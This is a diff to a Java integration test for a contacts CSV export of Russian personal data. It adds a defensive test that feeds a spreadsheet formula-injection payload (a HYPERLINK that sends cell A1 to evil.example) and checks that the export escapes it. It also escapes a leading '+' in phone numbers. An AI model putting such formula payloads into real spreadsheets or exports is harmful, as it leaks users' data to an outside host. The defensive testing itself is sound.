@@ -138,7 +138,7 @@ class ContactsIntegrationTests {
 		assertThat(lines[0]).startsWith("\uFEFFПерсональные данные (152-ФЗ)")
 			.contains("Паспорт, ИНН, СНИЛС", "Строк: 1", "Админ ");
 		assertThat(lines[1]).isEqualTo("Фамилия;Имя;Отчество;Дата рождения;Паспорт;ИНН;СНИЛС;Телефон;Электронная почта");
-		assertThat(lines[2]).isEqualTo("Семёнова;Анна;Петровна;1985-03-14;4510 987654;500100732259;;+79165551234;anna@example.ru");
+		assertThat(lines[2]).isEqualTo("Семёнова;Анна;Петровна;1985-03-14;4510 987654;500100732259;;'+79165551234;anna@example.ru");
 		assertThat(audit.latest(tenant.tenant().id(), 5))
 			.anySatisfy(e -> {
 				assertThat(e.action()).isEqualTo(AuditAction.EXPORTED);
@@ -209,6 +209,19 @@ class ContactsIntegrationTests {
 			.andReturn().getResponse().getContentAsString();
 
 		assertThat(page).contains("45 ** ***654").doesNotContain("987654");
+	}
+
+	@Test
+	void anExportNeverHoldsACellThatASpreadsheetWouldRunAsAFormula() throws Exception {
+		Provisioned tenant = fixtures.tenant(TenantKind.BROKER);
+		contacts.add(tenant.tenant().id(), new FullName("Семёнова", "Анна", null), LocalDate.of(1985, 3, 14), null, null,
+				null, null, "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
+
+		String csv = new String(mvc.perform(get("/contacts/export.csv").with(user(fixtures.admin(tenant))))
+			.andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);
+
+		assertThat(csv).contains("Семёнова;Анна;;1985-03-14;;;;;\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"")
+			.doesNotContain(";=", ";\"=");
 	}
 
 	@Test
